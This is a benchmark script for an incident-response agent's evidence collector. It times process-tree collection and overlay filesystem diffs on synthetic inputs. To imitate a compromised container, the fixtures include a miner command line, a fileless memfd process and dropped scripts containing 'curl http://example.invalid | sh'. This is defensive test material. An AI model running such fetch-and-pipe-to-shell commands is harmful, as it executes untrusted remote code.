"""Evidence collector benchmarks: the process tree and the filesystem diff, on synthetic inputs.

    .venv/bin/python bench/evidence.py            # full size (~1 minute), writes bench/RESULTS.md
    .venv/bin/python bench/evidence.py --quick    # small inputs, prints only

Figures:

- ``process tree``: ``responder.agent.processes.collect_process_tree`` over a synthetic proc root
  (tests/support/fake_proc.py) of 12,000 processes, 10,000 of them in the container: a worker
  pool running one 8 MiB binary, tools, a deleted dropper, a memfd; the others in 30 other
  containers and on the host. Every run scans all 12,000 cgroup files and describes and renders
  the 10,000 (``max_processes`` raised to 10,000, so nothing is cut), hashing each distinct
  executable once. Target: < 0.5 s. Beside it, without targets: the cgroup scan alone, the same
  system calls with no processing at all (the floor under the figure), and those calls on this
  machine's real /proc (procfs costs more than a memory filesystem).
- ``filesystem diff``: ``responder.agent.overlay.diff_upperdir`` over an upperdir of 100,000
  entries (1,000 directories, files new and overwritten, whiteouts, symlinks, opaque directories,
  ELF executables and scripts, some above the per-file hash cap) against a 10,000-file image
  layer, with the hash caps on. Target: < 3 s.

Both inputs are built once on a memory filesystem (/dev/shm when writable, else the temporary
directory; ``--dir`` chooses) so that disk writes of the build do not disturb the runs; every run
reads from the page cache, as the node agent does on a warm node. Each figure is the median (and
max) of several runs after one warm-up. Before each figure the script waits (up to a minute) for
the machine to be idle, and it reports the CPU that other work used during the runs; when that
exceeds a quarter of a core it measures again (three attempts at most; the quietest counts).

A full run updates only the "Evidence" section of bench/RESULTS.md (between
``<!-- evidence:start -->`` and ``<!-- evidence:end -->``); ``--quick`` prints only, unless
``--results PATH`` is given.
"""

from __future__ import annotations

import argparse
import contextlib
import dataclasses
import datetime as dt
import os
import platform
import resource
import stat
import statistics
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from bench.common import (  # noqa: E402
    FOREIGN_LIMIT_PCT,
    Row,
    busy_pct,
    busy_pct_over,
    cpu_model,
    machine_busy,
    rusage_seconds,
    say,
    table,
    write_section,
)
from responder.agent import overlay, processes  # noqa: E402
from tests.support import fake_proc  # noqa: E402

DEFAULT_RESULTS = ROOT / "bench" / "RESULTS.md"
START_MARK = "<!-- evidence:start -->"
END_MARK = "<!-- evidence:end -->"
TREE_TARGET_S = 0.5
DIFF_TARGET_S = 3.0
CID = "7d3f0c9a2b4e6f8a1c3e5b7d9f0a2c4e6b8d0f1a3c5e7b9d2f4a6c8e0b1d3f5a"
MIB = 1 << 20
IDLE_WAIT_S = 60.0


# ------------------------------------------------------------------------- machine load

def wait_for_idle() -> str:
    """Wait until other work uses under FOREIGN_LIMIT_PCT of a core; say how it went."""
    deadline = time.monotonic() + IDLE_WAIT_S
    while True:
        load = busy_pct_over(1.0)
        if load < FOREIGN_LIMIT_PCT:
            return f"idle ({load:.0f}% of a core busy before the runs)"
        if time.monotonic() > deadline:
            return (f"not idle: {load:.0f}% of a core busy before the runs "
                    f"(waited {IDLE_WAIT_S:.0f} s)")


@dataclasses.dataclass
class Timing:
    runs: list[float]
    foreign_pct: float  # CPU other work used during the runs, % of one core

    @property
    def median(self) -> float:
        return statistics.median(self.runs)


def measure_quietly(fn: Callable[[], Any], runs: int, attempts: int = 3
                    ) -> tuple[Timing, Any, str]:
    """``measure`` after waiting for idleness, again (up to ``attempts``) while other work used
    more than FOREIGN_LIMIT_PCT of a core during the runs; the least disturbed attempt counts."""
    best: tuple[Timing, Any, str] | None = None
    for attempt in range(1, attempts + 1):
        idle = wait_for_idle()
        timing, result = measure(fn, runs)
        if best is None or timing.foreign_pct < best[0].foreign_pct:
            best = (timing, result, f"attempt {attempt} of {attempts}; machine {idle}")
        if timing.foreign_pct < FOREIGN_LIMIT_PCT:
            break
        say(f"  (other work used {timing.foreign_pct:.0f}% of a core during the runs: again)")
    assert best is not None
    return best


def measure(fn: Callable[[], Any], runs: int) -> tuple[Timing, Any]:
    fn()  # warm-up: page cache, imports, first-call costs
    times: list[float] = []
    before = machine_busy()
    self0 = rusage_seconds(resource.RUSAGE_SELF)
    wall0 = time.perf_counter()
    result = None
    for _ in range(runs):
        start = time.perf_counter()
        result = fn()
        times.append(time.perf_counter() - start)
    wall = time.perf_counter() - wall0
    machine_s = wall * busy_pct(before, machine_busy()) / 100
    foreign = max(machine_s - (rusage_seconds(resource.RUSAGE_SELF) - self0), 0.0)
    return Timing(times, 100.0 * foreign / wall), result


# ------------------------------------------------------------------------- proc root

def build_proc_root(base: Path, in_container: int, others: int) -> tuple[fake_proc.FakeProc, int]:
    """The synthetic proc root; returns it and the pid to flag (a process of the dropper)."""
    proc = fake_proc.FakeProc(base)
    worker = proc.executable("python3.11", os.urandom(8 * MIB))
    tools = [proc.executable(f"tool{i}", os.urandom(100 * 1024)) for i in range(10)]
    dropper = proc.executable("xmrig", os.urandom(MIB))
    rootfs = proc.rootfs("root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n")
    cgroup = fake_proc.containerd_v2(CID)
    first = 1000
    flag_pid = first + in_container - 5
    for i in range(in_container):
        pid = first + i
        ppid = 900 if i == 0 else first + (i - 1) // 8  # a shim outside, then 8 children each
        if i == 0:
            exe, argv = tools[0], ["/bin/sh", "/entrypoint.sh"]
        elif i >= in_container - 10:
            exe, argv = dropper, ["./xmrig", "-o", "pool.example:3333", "--threads", str(i)]
        elif i % 10 == 0:
            exe, argv = tools[i % 10 + (i // 10) % 9], ["sh", "-c", f"sleep {i}"]
        else:
            exe, argv = worker, ["python3", "-m", "app.worker", "--queue", f"q{i % 16}", "-x" * 5]
        if i % 997 == 0:
            argv = [*argv, "A" * 5000]  # above the 4 KiB cmdline bound
        proc.add(pid, cgroup=cgroup, ppid=ppid, comm=Path(argv[0]).name[:15], cmdline=argv,
                 exe=exe, deleted=exe == dropper, cwd="/app", uid=1000 if i % 3 else 0,
                 ns_pids=(pid, i + 1), start_ticks=1000 + i, root=rootfs)
    # One fileless process, as memfd_create + fexecve leave it.
    proc.add(first + in_container, cgroup=cgroup, ppid=first, comm="kworker", cmdline=["x"],
             exe="/memfd:payload (deleted)", root=rootfs)
    other_ids = [f"{n:02x}" * 32 for n in range(1, 31)]
    for j in range(others):
        pid = 20_000 + j
        if j % 4 == 0:
            cgroup_j = fake_proc.host_cgroup(f"system.slice/unit{j % 50}.service")
        else:
            cgroup_j = fake_proc.containerd_v2(other_ids[j % 30])
        proc.add(pid, cgroup=cgroup_j, ppid=1, exe=tools[j % 10], cmdline=["other", str(j)])
    return proc, flag_pid


def bare_reads(root: Path, pids: list[int], times: int = 1) -> None:
    """The system calls the collector makes, and nothing else: the floor under its figure.
    Per process in the container: cgroup, stat, status and cmdline read, exe and cwd read as
    links, exe stat'ed; the other processes' cgroup files read too."""
    root_fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    flags = os.O_RDONLY | os.O_CLOEXEC
    members = set(pids)
    try:
        for _ in range(times):
            for name in os.listdir(root_fd):
                if not name.isdigit():
                    continue
                base = name.encode()
                files = (b"/cgroup", b"/stat", b"/status", b"/cmdline") if int(name) in members \
                    else (b"/cgroup",)
                for file in files:
                    fd = os.open(base + file, flags, dir_fd=root_fd)
                    os.read(fd, 4096)
                    os.close(fd)
                if int(name) in members:
                    with contextlib.suppress(OSError):
                        os.readlink(base + b"/exe", dir_fd=root_fd)
                        os.stat(base + b"/exe", dir_fd=root_fd)
                    with contextlib.suppress(OSError):
                        os.readlink(base + b"/cwd", dir_fd=root_fd)
    finally:
        os.close(root_fd)


def real_proc_reads(count: int) -> None:
    """The same calls on this machine's real /proc (this process, ``count`` times): what procfs
    itself costs, next to the synthetic tree's memory filesystem."""
    root_fd = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    flags = os.O_RDONLY | os.O_CLOEXEC
    base = b"%d" % os.getpid()
    try:
        for _ in range(count):
            for file in (b"/cgroup", b"/stat", b"/status", b"/cmdline"):
                fd = os.open(base + file, flags, dir_fd=root_fd)
                os.read(fd, 4096)
                os.close(fd)
            os.readlink(base + b"/exe", dir_fd=root_fd)
            os.stat(base + b"/exe", dir_fd=root_fd)
            os.readlink(base + b"/cwd", dir_fd=root_fd)
    finally:
        os.close(root_fd)


# ---------------------------------------------------------------------------- upperdir

@dataclasses.dataclass
class Layers:
    upper: Path
    lower: Path
    entries: int
    whiteouts: bool
    flag: str


def build_layers(base: Path, dirs: int, per_dir: int) -> Layers:
    """An image layer of 200 x 50 files and an upperdir of ``dirs`` x (1 + per_dir) entries."""
    lower, upper = base / "lower", base / "upper"
    image_dirs = min(200, dirs)
    for d in range(image_dirs):
        directory = lower / "usr" / "lib" / f"pkg{d}"
        directory.mkdir(parents=True)
        for j in range(50):
            (directory / f"f{j}.so").write_bytes(b"\x7fELF image library " + bytes([j]) * 40)
    root = os.geteuid() == 0
    entries = 0
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    for d in range(dirs):
        if d < image_dirs:
            directory = upper / "usr" / "lib" / f"pkg{d}"  # exists in the image: C
        else:
            directory = upper / "opt" / f"app{d}"            # new: A
        directory.mkdir(parents=True)
        entries += 1
        if d % 200 == 7:
            # An opaque directory replaces the image's (trusted.* xattrs need root).
            with contextlib.suppress(OSError):
                os.setxattr(directory, "trusted.overlay.opaque", b"y")
        for j in range(per_dir):
            path = directory / f"f{j}.so" if d < image_dirs and j < 50 else directory / f"n{j}"
            if d < image_dirs and j < 10 and root:
                os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))  # whiteout: D
            elif j % 50 == 49:
                path.symlink_to(f"../lib/target{j}")
            elif j % 10 == 3:
                # Some dropped binaries above the 1 MiB per-file hash cap.
                size = 2 * MIB if j == 13 and d % 4 == 0 else 4096
                path.write_bytes(elf + os.urandom(size - len(elf)))  # dropped binary
                path.chmod(0o755)
            elif j % 25 == 4:
                path.write_bytes(b"#!/bin/sh\ncurl http://example.invalid | sh\n")
                path.chmod(0o755)
            else:
                path.write_bytes(b"data %d %d\n" % (d, j))
            entries += 1
    flag_dir = f"/opt/app{image_dirs}" if dirs > image_dirs else "/usr/lib/pkg0"
    return Layers(upper=upper, lower=lower, entries=entries, whiteouts=root,
                  flag=f"{flag_dir}/n13")


# -------------------------------------------------------------------------------- report

def machine_facts(where: Path) -> list[tuple[str, str]]:
    cpu = cpu_model() or "unknown"
    fs = "unknown"
    try:
        best = ""
        for line in Path("/proc/self/mounts").read_text().splitlines():
            _dev, mnt, kind, *_ = line.split()
            if str(where).startswith(mnt) and len(mnt) >= len(best):
                best, fs = mnt, f"{kind} ({mnt})"
    except OSError:
        pass
    return [("cores", str(os.cpu_count())), ("CPU", cpu),
            ("kernel", platform.release()), ("Python", platform.python_version()),
            ("inputs built on", f"{where} — {fs}")]


def seconds(value: float) -> str:
    return f"{value * 1000:.0f} ms" if value < 10 else f"{value:.1f} s"


def render(rows: list[Row], notes: list[str], facts: list[tuple[str, str]], quick: bool) -> str:
    lines = [
        START_MARK,
        "## Evidence",
        "",
        f"Generated by `.venv/bin/python bench/evidence.py{' --quick' if quick else ''}` on "
        f"{dt.datetime.now(dt.UTC):%Y-%m-%d %H:%M} UTC. Synthetic inputs (see the script's "
        "docstring), built once on a memory filesystem; median (max) of several runs after a "
        "warm-up, one process, one thread.",
        "",
        *table(rows),
        "",
        "| machine | |",
        "| --- | --- |",
        *(f"| {k} | {v} |" for k, v in facts),
        "",
        "### Details",
        "",
        *(f"- {note}" for note in notes),
        END_MARK,
    ]
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------------------------- main

def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help="small inputs, a few seconds")
    parser.add_argument("--runs", type=int, default=None, help="measured runs per figure")
    parser.add_argument("--dir", type=Path, default=None,
                        help="where to build the inputs (default /dev/shm when writable)")
    parser.add_argument("--results", type=Path, default=None,
                        help=f"update the evidence section of this file (default "
                             f"{DEFAULT_RESULTS} for a full run, nowhere with --quick)")
    args = parser.parse_args()
    quick: bool = args.quick
    runs = args.runs or (3 if quick else 9)
    in_container, others = (1000, 200) if quick else (10_000, 2_000)
    dirs, per_dir = (200, 49) if quick else (1000, 99)
    shm = Path("/dev/shm")
    where = args.dir or (shm if shm.is_dir() and os.access(shm, os.W_OK) else
                         Path(tempfile.gettempdir()))
    results = args.results or (None if quick else DEFAULT_RESULTS)

    facts = machine_facts(where)
    say("machine: " + "; ".join(f"{k} {v}" for k, v in facts))
    rows: list[Row] = []
    notes: list[str] = []

    with tempfile.TemporaryDirectory(dir=where, prefix="drift-bench-evidence-") as tmp:
        base = Path(tmp)
        # ---- process tree
        built = time.perf_counter()
        proc, flag_pid = build_proc_root(base / "proc-root", in_container, others)
        say(f"built a proc root of {in_container + 1 + others:,} processes in "
            f"{time.perf_counter() - built:.1f} s")
        limits = processes.ProcessLimits(max_processes=in_container + 1)

        def tree() -> Any:
            return processes.collect_process_tree(CID, proc_root=proc.root, flag_pid=flag_pid,
                                                  flag_exe="/memfd:payload", limits=limits)

        timing, result, how = measure_quietly(tree, runs)
        scan, pids = measure(lambda: processes.container_pids(CID, proc.root), runs)
        floor, _ = measure(lambda: bare_reads(proc.root, pids), runs)
        real, _ = measure(lambda: real_proc_reads(len(pids)), runs)
        described = len(result.processes)
        flagged = sum(p.flagged for p in result.processes)
        hashed = len({p.sha256 for p in result.processes if p.sha256})
        rows.append(Row(
            f"Process tree: {described:,} processes of the container among "
            f"{in_container + 1 + others:,} (scan, describe, hash, render)",
            f"{seconds(timing.median)} (max {seconds(max(timing.runs))}; n={runs})",
            f"< {TREE_TARGET_S} s", timing.median < TREE_TARGET_S))
        rows.append(Row(f"Process tree: cgroup scan alone ({in_container + 1 + others:,} "
                        "cgroup files read)",
                        f"{seconds(scan.median)} (max {seconds(max(scan.runs))})"))
        rows.append(Row("Process tree: the same system calls alone, no parsing, models or "
                        "rendering (the floor under the first figure)",
                        f"{seconds(floor.median)} (max {seconds(max(floor.runs))})"))
        rows.append(Row(f"The same calls per process on this machine's real /proc, "
                        f"{len(pids):,} times (procfs generates each file; no figure above "
                        "includes this)",
                        f"{seconds(real.median)} (max {seconds(max(real.runs))})"))
        notes.append(
            f"process tree: {described:,} processes described, {flagged} flagged, "
            f"{hashed} distinct executables hashed once each (8 MiB, 1 MiB, 10 x 100 KiB), "
            f"truncated={result.truncated}, rendered {len(result.rendered):,} characters; "
            f"runs (s): {', '.join(f'{t:.3f}' for t in timing.runs)}; {how}; "
            f"other work during the runs: {timing.foreign_pct:.0f}% of a core")
        for row in rows[-4:]:
            say(row.summary)

        # ---- filesystem diff
        built = time.perf_counter()
        layers = build_layers(base / "layers", dirs, per_dir)
        say(f"built an upperdir of {layers.entries:,} entries in "
            f"{time.perf_counter() - built:.1f} s")
        diff_limits = overlay.DiffLimits(max_entries=1000, hash_file_max_bytes=MIB,
                                         hash_total_max_bytes=64 * MIB)

        def diff() -> Any:
            return overlay.diff_upperdir(layers.upper, [layers.lower], container_id=CID,
                                         flag_paths=[layers.flag], limits=diff_limits)

        dtiming, dresult, dhow = measure_quietly(diff, max(3, runs // 2))
        s = dresult.summary
        rows.append(Row(
            f"Filesystem diff: upperdir of {layers.entries:,} entries, hash caps on "
            f"(1 MiB per file, 64 MiB in all)",
            f"{seconds(dtiming.median)} (max {seconds(max(dtiming.runs))}; "
            f"n={len(dtiming.runs)})",
            f"< {DIFF_TARGET_S:.0f} s", dtiming.median < DIFF_TARGET_S))
        skipped: dict[str, int] = {}
        for entry in dresult.changes:
            if entry.hash_skipped:
                skipped[entry.hash_skipped] = skipped.get(entry.hash_skipped, 0) + 1
        notes.append(
            f"filesystem diff: A {s.added:,} / C {s.changed:,} / D {s.deleted:,}, "
            f"{s.executables_added:,} executables added, {len(dresult.changes):,} entries "
            f"listed (max_entries 1,000; truncated={dresult.truncated}), "
            f"{s.bytes_hashed / MIB:.1f} MiB hashed, hashes skipped: {skipped or 'none'}; "
            f"whiteouts {'included' if layers.whiteouts else 'left out (not root)'}; "
            f"runs (s): {', '.join(f'{t:.3f}' for t in dtiming.runs)}; {dhow}; "
            f"other work during the runs: {dtiming.foreign_pct:.0f}% of a core")
        say(rows[-1].summary)

    for note in notes:
        say(f"  - {note}")
    if results is not None:
        write_section(results, render(rows, notes, facts, quick), START_MARK, END_MARK)
        say(f"wrote the evidence section of {results}")
    return 0 if all(r.met is not False for r in rows) else 1


if __name__ == "__main__":
    sys.exit(main())
